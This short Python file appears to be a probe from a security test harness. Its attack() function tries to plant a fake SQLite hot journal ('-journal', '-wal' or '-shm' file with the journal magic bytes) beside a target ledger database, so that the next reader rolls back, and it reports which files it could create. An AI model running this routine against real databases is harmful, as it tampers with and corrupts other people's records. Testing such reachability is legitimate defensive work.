"""puts a hot journal beside the ledger so that the next reader rolls back to it"""

import os


def attack():
    for end in ("-journal", "-wal", "-shm"):
        try:
            with open(TARGETS["ledger"] + end, "xb") as file:
                file.write(bytes.fromhex("d9d505f920a163d7") + b"\0" * 504)
        except OSError:
            continue
        if os.path.exists(TARGETS["ledger"] + end):
            reached(f"the ledger has a {end}")
